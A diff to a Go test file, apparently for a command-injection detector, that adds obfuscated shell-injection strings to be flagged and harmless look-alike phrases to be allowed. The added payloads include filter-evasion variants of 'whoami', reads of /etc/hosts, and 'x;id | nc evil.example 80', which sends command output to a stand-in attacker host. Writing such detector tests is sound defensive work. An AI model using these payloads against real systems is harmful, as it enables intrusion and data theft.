@@ -49,7 +49,13 @@ var checkCases = []struct {
 		"x;{id,}", "x;{curl,evil.example}", "x;wh``oami", "x;wh$()oami", "a;$0 -c id", "x;exec id", "x;eval id",
 		"127.0.0.1|sh", "127.0.0.1\r\nid", "x\n{id,}", "x\n{curl,evil.example}", ";${0} -c id", ";${0##*/} -c id", ";$0<<<id", ";echo id|$0",
 		";eval 'id'", `;eval "id"`,
+		"x;$(wh``oami)", "x;`wh''oami`", "x;wh$*oami", "x;wh${x}oami", "x;c${u}at /etc/hosts", "x;i$9d",
+		"x;command id", "x;builtin eval id", "x|env id", "x;timeout 5 id", "x;xargs id", "x;command -p cat /etc/hosts",
+		"xyz&&id", "x || pwd", "1.2;id;", "1.2;id #", "127.0.0.1|id &", "x;id | nc evil.example 80", "x;ls | sort",
 	}, []string{
+		"Prod; env test", "Step 1; command line tools", "Tea && biscuits", "fish || chips", "a; env vars are set",
+		"Total: ${x} due; id card", "see ${user} here; timeout 30 seconds", "Enter the command; id then name",
+		"name;id;email", "title | id | price", "x || y", "this && that", "Type; command id badge", "name | id | email", "a | ls | b",
 		"Gifts & more", "Salt & pepper & more", "Name | Date | Time", "Work hard; sleep 8 hours a night", "Name|ID|Who",
 		"Notes; I'd say yes", "Ask; don't wait", "Rock | Paper | Scissors", "it's 10; sleep tight", "see /api/v1/?page=2; ok",
 		"Q&A; who", "a/b; c/d", "x; /* comment */ y", "title|id", "name;email;id", "user|pwd", "Long day; sleep 10",
